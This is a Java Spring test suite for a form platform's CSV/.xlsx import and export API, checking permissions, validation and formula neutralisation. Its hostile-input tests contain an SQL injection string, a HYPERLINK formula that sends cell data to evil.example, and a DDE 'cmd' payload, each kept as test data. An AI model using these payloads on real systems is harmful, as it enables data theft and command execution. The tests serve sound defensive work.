package io.mosaic.runtime.form;

import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.contains;
import static org.hamcrest.Matchers.containsInAnyOrder;
import static org.hamcrest.Matchers.startsWith;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.multipart;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.header;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.jsonPath;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import javax.sql.DataSource;

import org.dhatim.fastexcel.Workbook;
import org.dhatim.fastexcel.Worksheet;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.MediaType;
import org.springframework.mock.web.MockMultipartFile;
import org.springframework.test.web.servlet.ResultActions;
import org.springframework.test.web.servlet.request.RequestPostProcessor;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;

import io.mosaic.api.app.AppManifest;
import io.mosaic.runtime.metadata.MetadataService;
import io.mosaic.runtime.security.SecurityTestSupport;
import io.mosaic.runtime.support.DatabaseFingerprint;

/** Importing records from CSV and .xlsx files and exporting filtered lists, under each user's permission. */
class RecordTransferApiTest extends SecurityTestSupport {

    private static final String ACTOR = "analyst";

    @Autowired
    MetadataService metadata;

    @Autowired
    ObjectMapper json;

    @Autowired
    DataSource dataSource;

    private final String app = unique("io").toLowerCase();
    private final String clerk = unique("clerk");
    private final String dealerRep = unique("dealer");
    private final String reader = unique("reader");
    private final String outsider = unique("outsider");

    @BeforeEach
    void publishADealForm() {
        String manifest = """
                {"key": "%s", "name": {"zh-CN": "交易", "en": "Deals"}, "version": "1.0.0", "platform": ">=0.1.0",
                 "roles": [
                   {"key": "%s", "name": {"zh-CN": "文员", "en": "Clerk"},
                    "grants": [{"form": "deal", "actions": ["create", "read", "update", "delete", "export"],
                                "rowScope": "all"}]},
                   {"key": "%s", "name": {"zh-CN": "经销商", "en": "Dealer"},
                    "grants": [{"form": "deal", "actions": ["create", "read", "export"], "rowScope": "own_dealer",
                                "fields": {"cost": "hidden", "rating": "read_only"}}]},
                   {"key": "%s", "name": {"zh-CN": "读者", "en": "Reader"},
                    "grants": [{"form": "deal", "actions": ["read"], "rowScope": "all"}]},
                   {"key": "%s", "name": {"zh-CN": "外人", "en": "Outsider"},
                    "grants": [{"form": "memo", "actions": ["read"], "rowScope": "all"}]}],
                 "definitions": [{"kind": "form", "key": "deal"}, {"kind": "form", "key": "memo"}]}"""
                .formatted(app, clerk, dealerRep, reader, outsider);
        metadata.createApp(app, manifest, ACTOR);
        roles.upsertAppRoles(app, AppManifest.read(manifest).roles());
        metadata.publishContent(app, "form", "deal", """
                {"key": "deal", "name": {"zh-CN": "交易", "en": "Deal"},
                 "fields": [
                   {"key": "title", "type": "text", "required": true, "maxLength": 40,
                    "label": {"zh-CN": "标题", "en": "Title"}},
                   {"key": "amount", "type": "integer", "label": {"zh-CN": "金额", "en": "Amount"}},
                   {"key": "cost", "type": "integer", "label": {"zh-CN": "成本", "en": "Cost"}},
                   {"key": "rating", "type": "integer", "label": {"zh-CN": "评级", "en": "Rating"}},
                   {"key": "due", "type": "date", "label": {"zh-CN": "截止日期", "en": "Due"}},
                   {"key": "stage", "type": "select", "label": {"zh-CN": "阶段", "en": "Stage"},
                    "options": [{"value": "new", "label": {"zh-CN": "新建", "en": "New"}},
                                {"value": "won", "label": {"zh-CN": "赢单", "en": "Won"}}]},
                   {"key": "urgent", "type": "switch", "label": {"zh-CN": "紧急", "en": "Urgent"}},
                   {"key": "notes", "type": "textarea", "label": {"zh-CN": "备注", "en": "Notes"}},
                   {"key": "code", "type": "text", "unique": true, "label": {"zh-CN": "代码", "en": "Code"}},
                   {"key": "number", "type": "serial", "pattern": "D-{seq:4}", "label": {"zh-CN": "编号", "en": "Number"}},
                   {"key": "lines", "type": "subtable", "label": {"zh-CN": "明细", "en": "Lines"},
                    "columns": [{"key": "item", "type": "text", "label": {"zh-CN": "项目", "en": "Item"}}]}
                 ]}""", null, ACTOR);
    }

    @Test
    void importsACsvFileAsRecordsOfTheUserWithSerialNumbers() throws Exception {
        RequestPostProcessor user = as(createDealerUser(null, null, clerk));
        String csv = "title,amount,due,stage,urgent\nBolts,120,2026-11-24,won,true\nNuts,-5,,new,0\n";

        JsonNode job = start(user, csv("deals.csv", csv), "all_or_nothing")
                .andExpect(header().exists("Location"))
                .andExpect(jsonPath("$.total").value(2))
                .andExpect(jsonPath("$.mode").value("all_or_nothing"))
                .andReturn().getResponse().getContentAsString().transform(this::tree);
        JsonNode done = waitFor(user, job.get("id").asText());

        assertThat(done.get("state").asText()).isEqualTo("done");
        assertThat(done.get("processed").asInt()).isEqualTo(2);
        assertThat(done.get("created").asInt()).isEqualTo(2);
        assertThat(done.get("failed").asInt()).isZero();
        mvc.perform(get(records()).with(user).param("sort", "amount"))
                .andExpect(jsonPath("$.items[*].title", contains("Nuts", "Bolts")))
                .andExpect(jsonPath("$.items[*].amount", contains(-5, 120)))
                .andExpect(jsonPath("$.items[*].stage", contains("new", "won")))
                .andExpect(jsonPath("$.items[*].urgent", contains(false, true)))
                .andExpect(jsonPath("$.items[*].number", containsInAnyOrder("D-0001", "D-0002")));
    }

    @Test
    void importsAnXlsxWorkbookWithExcelDateCellsAndLabelHeadings() throws Exception {
        RequestPostProcessor user = as(createDealerUser(null, null, clerk));
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        Workbook book = new Workbook(out, "test", "1.0");
        Worksheet sheet = book.newWorksheet("交易");
        List<String> headings = List.of("标题", "Amount", "截止日期", "阶段", "紧急");
        for (int i = 0; i < headings.size(); i++) {
            sheet.value(0, i, headings.get(i));
        }
        sheet.value(1, 0, "轴承");
        sheet.value(1, 1, 3000);
        sheet.value(1, 2, LocalDate.of(2026, 12, 31));
        sheet.style(1, 2).format("yyyy-mm-dd").set();
        sheet.value(1, 3, "赢单");
        sheet.value(1, 4, "是");
        book.finish();

        JsonNode done = waitFor(user, id(start(user, new MockMultipartFile("file", "deals.xlsx",
                "application/octet-stream", out.toByteArray()), null)));

        assertThat(done.get("created").asInt()).isEqualTo(1);
        mvc.perform(get(records()).with(user))
                .andExpect(jsonPath("$.items[0].title").value("轴承"))
                .andExpect(jsonPath("$.items[0].amount").value(3000))
                .andExpect(jsonPath("$.items[0].due").value("2026-12-31"))
                .andExpect(jsonPath("$.items[0].stage").value("won"))
                .andExpect(jsonPath("$.items[0].urgent").value(true));
    }

    @Test
    void readsACsvThatExcelSavedInGbkWithChineseLabelHeadings() throws Exception {
        RequestPostProcessor user = as(createDealerUser(null, null, clerk));

        JsonNode done = waitFor(user, id(start(user, new MockMultipartFile("file", "deals-gbk.csv", "text/csv",
                fixture("/transfer/deals-gbk.csv")), null)));

        assertThat(done.get("created").asInt()).isEqualTo(2);
        mvc.perform(get(records()).with(user).param("sort", "amount"))
                .andExpect(jsonPath("$.items[*].title", contains("螺栓", "垫圈")))
                .andExpect(jsonPath("$.items[*].amount", contains(120, 1500)))
                .andExpect(jsonPath("$.items[*].due", contains("2026-11-24", "2026-12-01")))
                .andExpect(jsonPath("$.items[*].stage", contains("won", "new")));
    }

    @Test
    void reportsEveryFailedRowWithItsNumberAndColumnInTheUsersLanguageAndStoresTheValidOnes() throws Exception {
        RequestPostProcessor user = as(createDealerUser(null, null, clerk));
        String csv = "标题,金额,截止日期,阶段\n"
                + "Good,1,2026-01-01,new\n"
                + ",lots,2026-13-01,lost\n"
                + "Also good,2,,won\n"
                + "\"" + "x".repeat(41) + "\",3,,\n";

        String id = id(start(user, csv("mixed.csv", csv), "valid_only"));
        JsonNode done = waitFor(user, id);

        assertThat(done.get("created").asInt()).isEqualTo(2);
        assertThat(done.get("failed").asInt()).isEqualTo(2);
        assertThat(done.get("mode").asText()).isEqualTo("valid_only");
        mvc.perform(get(records()).with(user)).andExpect(jsonPath("$.items[*].title", containsInAnyOrder("Good", "Also good")));
        String report = mvc.perform(get(job(id) + "/errors").with(user))
                .andExpect(status().isOk())
                .andExpect(header().string("Content-Type", startsWith("text/csv")))
                .andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8);
        assertThat(report.lines().toList()).containsExactly(
                "\uFEFF行号,列,字段,错误代码,说明",
                "3,A 标题,title,required,标题不能为空",
                "3,B 金额,amount,type,金额的值类型不正确",
                "3,C 截止日期,due,format,截止日期的格式不正确",
                "3,D 阶段,stage,enum,阶段不是可选的值",
                "5,A 标题,title,max_length,标题不能超过 40 个字符");
    }

    @Test
    void storesNothingInAllOrNothingModeWhenOneRowFailsItsCheckOrTheStore() throws Exception {
        RequestPostProcessor user = as(createDealerUser(null, null, clerk));
        waitFor(user, id(start(user, csv("first.csv", "title,code\nFirst,C-1\n"), null)));
        Map<String, String> before = DatabaseFingerprint.of(dataSource);

        JsonNode invalid = waitFor(user, id(start(user, csv("deals.csv", "title,amount\nA,1\nB,2\nC,three\n"),
                "all_or_nothing")));
        JsonNode taken = waitFor(user, id(start(user, csv("codes.csv", "title,code\nA,C-2\nB,C-3\nC,C-2\n"),
                "all_or_nothing")));

        assertThat(invalid.get("state").asText()).isEqualTo("done");
        assertThat(invalid.get("created").asInt()).isZero();
        assertThat(invalid.get("failed").asInt()).isEqualTo(1);
        assertThat(taken.get("created").asInt()).isZero();
        assertThat(taken.get("failed").asInt()).isEqualTo(1);
        assertThat(DatabaseFingerprint.of(dataSource)).isEqualTo(before);
        assertThat(mvc.perform(get(job(taken.get("id").asText()) + "/errors").with(user))
                .andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8))
                .contains("4,B code,code,unique,代码已存在相同的值");
        mvc.perform(get(records()).with(user)).andExpect(jsonPath("$.items[*].number", contains("D-0001")));
    }

    @Test
    void refusesHiddenAndReadOnlyColumnsBeforeReadingAnyRow() throws Exception {
        RequestPostProcessor rep = as(createDealerUser(null, unique("east"), dealerRep));
        Map<String, String> before = DatabaseFingerprint.of(dataSource);

        start(rep, csv("deals.csv", "title,成本,rating,colour,编号,明细\nBolts,1,2,red,X,Y\n"), null)
                .andExpect(status().isUnprocessableEntity())
                .andExpect(jsonPath("$.code").value("import.invalid"))
                .andExpect(jsonPath("$.errors[*].pointer", contains("B1", "C1", "D1", "E1", "F1")))
                .andExpect(jsonPath("$.errors[*].code", contains("unknown_field", "read_only", "unknown_field",
                        "read_only", "not_importable")))
                .andExpect(jsonPath("$.errors[0].message").value("第 B 列「成本」不是表单中的字段"))
                .andExpect(jsonPath("$.errors[2].message").value("第 D 列「colour」不是表单中的字段"))
                .andExpect(jsonPath("$.errors[1].message").value("评级是只读字段，不能提交"));

        assertThat(DatabaseFingerprint.of(dataSource)).isEqualTo(before);
    }

    @Test
    void forbidsImportsWithoutTheCreatePermissionAndHidesTheFormFromStrangers() throws Exception {
        String csv = "title\nBolts\n";

        start(as(createDealerUser(null, null, reader)), csv("deals.csv", csv), null)
                .andExpect(status().isForbidden()).andExpect(jsonPath("$.code").value("auth.forbidden"));
        start(as(createDealerUser(null, null, outsider)), csv("deals.csv", csv), null)
                .andExpect(status().isNotFound());
    }

    @Test
    void showsAnImportOnlyToTheUserWhoStartedIt() throws Exception {
        RequestPostProcessor owner = as(createDealerUser(null, null, clerk));
        RequestPostProcessor colleague = as(createDealerUser(null, null, clerk));
        String id = id(start(owner, csv("deals.csv", "title,amount\nBolts,x\n"), null));
        waitFor(owner, id);

        mvc.perform(get(job(id)).with(colleague)).andExpect(status().isNotFound());
        mvc.perform(get(job(id) + "/errors").with(colleague)).andExpect(status().isNotFound());
        mvc.perform(get(job("not-a-job")).with(owner)).andExpect(status().isNotFound());
        mvc.perform(get(job(id)).with(owner)).andExpect(status().isOk());
    }

    @Test
    void storesHostileCellsAsInertText() throws Exception {
        RequestPostProcessor user = as(createDealerUser(null, null, clerk));
        String sql = "x'); DROP TABLE mo_user; --";
        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
        String huge = "长".repeat(4_000);
        String csv = "title,notes\n"
                + quoted(sql) + ",\n"
                + "Formula," + quoted(formula) + "\n"
                + "Huge," + huge + "\n"
                + "Too huge," + huge + "!\n";

        JsonNode done = waitFor(user, id(start(user, csv("hostile.csv", csv), "valid_only")));

        assertThat(done.get("created").asInt()).isEqualTo(3);
        assertThat(done.get("failed").asInt()).isEqualTo(1);
        mvc.perform(get(records()).with(user).param("sort", "id"))
                .andExpect(jsonPath("$.items[*].title", contains(sql, "Formula", "Huge")))
                .andExpect(jsonPath("$.items[1].notes").value(formula))
                .andExpect(jsonPath("$.items[2].notes").value(huge));
        mvc.perform(get("/api/users").with(as(createDealerUser(null, null, "admin")))).andExpect(status().isOk());
    }

    @Test
    void refusesFilesThatAreNotCsvOrXlsxOrAreDamagedOrTooLong() throws Exception {
        RequestPostProcessor user = as(createDealerUser(null, null, clerk));
        byte[] png = {(byte) 0x89, 'P', 'N', 'G', 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 0x0D, 'I', 'H', 'D', 'R'};
        byte[] brokenXlsx = {'P', 'K', 3, 4, 20, 0, 8, 0, 0, 0, 1, 2, 3};
        StringBuilder tooLong = new StringBuilder("title\n");
        for (int i = 0; i <= 50_000; i++) {
            tooLong.append("r").append(i).append('\n');
        }

        start(user, new MockMultipartFile("file", "deals.png", "image/png", png), null)
                .andExpect(status().isBadRequest()).andExpect(jsonPath("$.code").value("import.unsupported"));
        start(user, new MockMultipartFile("file", "deals.xlsx", "application/octet-stream", brokenXlsx), null)
                .andExpect(status().isUnprocessableEntity()).andExpect(jsonPath("$.code").value("import.unreadable"));
        start(user, csv("deals.csv", "title\n\"never closed\n"), null)
                .andExpect(status().isUnprocessableEntity()).andExpect(jsonPath("$.code").value("import.unreadable"));
        start(user, csv("empty.csv", ""), null)
                .andExpect(status().isUnprocessableEntity()).andExpect(jsonPath("$.code").value("import.invalid"));
        start(user, csv("long.csv", tooLong.toString()), null)
                .andExpect(status().isPayloadTooLarge()).andExpect(jsonPath("$.code").value("request.too_large"));
        start(user, new MockMultipartFile("file", "big.csv", "text/csv", new byte[10 * 1024 * 1024 + 1]), null)
                .andExpect(status().isPayloadTooLarge());
        start(user, csv("deals.csv", "title\nx\n"), "some").andExpect(status().isBadRequest());
        mvc.perform(get(records()).with(user)).andExpect(jsonPath("$.items").isEmpty());
    }

    @Test
    void exportsOnlyTheRecordsAndFieldsTheUserMaySeeWithFormulasNeutralised() throws Exception {
        String north = unique("north");
        RequestPostProcessor northRep = as(createDealerUser(null, north, dealerRep));
        RequestPostProcessor southRep = as(createDealerUser(null, unique("south"), dealerRep));
        create(northRep, "{\"title\": \"=cmd|' /C calc'!A0\", \"amount\": -5, \"stage\": \"won\", \"urgent\": true}");
        create(northRep, "{\"title\": \"@SUM(1)\", \"amount\": 7, \"due\": \"2026-11-24\"}");
        create(southRep, "{\"title\": \"South deal\", \"amount\": 9}");

        String csv = mvc.perform(get(export()).with(northRep).param("locale", "zh-CN").param("sort", "amount"))
                .andExpect(status().isOk())
                .andExpect(header().string("Content-Disposition", startsWith("attachment; filename=\"deal-")))
                .andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8);

        assertThat(csv.lines().toList()).containsExactly(
                "\uFEFF标题,金额,评级,截止日期,阶段,紧急,备注,代码,编号",
                "'=cmd|' /C calc'!A0,-5,,,赢单,是,,,D-0001",
                "'@SUM(1),7,,2026-11-24,,,,,D-0002");
    }

    @Test
    void exportsAnXlsxWorkbookThatReadsBackWithFiltersAndChosenColumns() throws Exception {
        RequestPostProcessor user = as(createDealerUser(null, null, clerk));
        create(user, "{\"title\": \"=1+2\", \"amount\": -12, \"cost\": 4, \"due\": \"2026-11-24\"}");
        create(user, "{\"title\": \"Small\", \"amount\": 1}");

        byte[] xlsx = mvc.perform(get(export()).with(user).param("format", "xlsx").param("locale", "en")
                        .param("filter", "amount:lt:0").param("columns", "title,amount,cost,due"))
                .andExpect(status().isOk())
                .andExpect(header().string("Content-Type",
                        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"))
                .andReturn().getResponse().getContentAsByteArray();

        List<List<String>> rows = new ArrayList<>();
        try (ReadableWorkbook book = new ReadableWorkbook(new ByteArrayInputStream(xlsx))) {
            for (Row row : book.getFirstSheet().read()) {
                rows.add(row.stream().map(cell -> cell == null ? "" : cell.getText()).toList());
            }
            Row data = book.getFirstSheet().read().get(1);
            assertThat(data.getCell(1).asNumber()).isEqualByComparingTo(new BigDecimal("-12"));
            assertThat(data.getCell(3).asDate().toLocalDate()).isEqualTo(LocalDate.of(2026, 11, 24));
        }
        assertThat(rows.get(0)).containsExactly("Title", "Amount", "Cost", "Due");
        assertThat(rows.get(1).get(0)).isEqualTo("'=1+2");
        assertThat(rows).hasSize(2);
    }

    @Test
    void refusesExportsWithoutTheExportPermissionAndOfFieldsTheUserMayNotSee() throws Exception {
        RequestPostProcessor rep = as(createDealerUser(null, unique("west"), dealerRep));

        mvc.perform(get(export()).with(as(createDealerUser(null, null, reader))))
                .andExpect(status().isForbidden()).andExpect(jsonPath("$.code").value("auth.forbidden"));
        mvc.perform(get(export()).with(as(createDealerUser(null, null, outsider)))).andExpect(status().isNotFound());
        mvc.perform(get(export()).with(rep).param("columns", "title,cost"))
                .andExpect(status().isBadRequest()).andExpect(jsonPath("$.errors[0].pointer").value("columns"));
        mvc.perform(get(export()).with(rep).param("columns", "lines")).andExpect(status().isBadRequest());
        mvc.perform(get(export()).with(rep).param("filter", "cost:gt:1"))
                .andExpect(status().isBadRequest()).andExpect(jsonPath("$.errors[0].pointer").value("filter"));
        mvc.perform(get(export()).with(rep).param("format", "pdf")).andExpect(status().isBadRequest());
    }

    // ---- helpers

    private ResultActions start(RequestPostProcessor user, MockMultipartFile file, String mode) throws Exception {
        var request = multipart(imports()).file(file).with(user).param("locale", "zh-CN");
        if (mode != null) {
            request.param("mode", mode);
        }
        return mvc.perform(request);
    }

    private String id(ResultActions started) throws Exception {
        return tree(started.andExpect(status().isAccepted()).andReturn().getResponse().getContentAsString())
                .get("id").asText();
    }

    /** Polls the job until it leaves "running"; the bound only keeps a broken import from hanging the build. */
    private JsonNode waitFor(RequestPostProcessor user, String id) throws Exception {
        for (int attempt = 0; attempt < 600; attempt++) {
            JsonNode job = tree(mvc.perform(get(job(id)).with(user)).andExpect(status().isOk())
                    .andReturn().getResponse().getContentAsString());
            if (!job.get("state").asText().equals("running")) {
                return job;
            }
            Thread.sleep(50);
        }
        throw new AssertionError("Import " + id + " still running");
    }

    private void create(RequestPostProcessor user, String record) throws Exception {
        mvc.perform(post(records()).with(user).contentType(MediaType.APPLICATION_JSON).content(record))
                .andExpect(status().isCreated());
    }

    private static MockMultipartFile csv(String name, String text) {
        return new MockMultipartFile("file", name, "text/csv", text.getBytes(StandardCharsets.UTF_8));
    }

    private static String quoted(String text) {
        return "\"" + text.replace("\"", "\"\"") + "\"";
    }

    private static byte[] fixture(String path) throws IOException {
        try (InputStream in = RecordTransferApiTest.class.getResourceAsStream(path)) {
            return in.readAllBytes();
        }
    }

    private JsonNode tree(String text) {
        try {
            return json.readTree(text);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private String base() {
        return "/api/apps/" + app + "/forms/deal";
    }

    private String records() {
        return base() + "/records";
    }

    private String imports() {
        return base() + "/imports";
    }

    private String job(String id) {
        return imports() + "/" + id;
    }

    private String export() {
        return base() + "/export";
    }
}
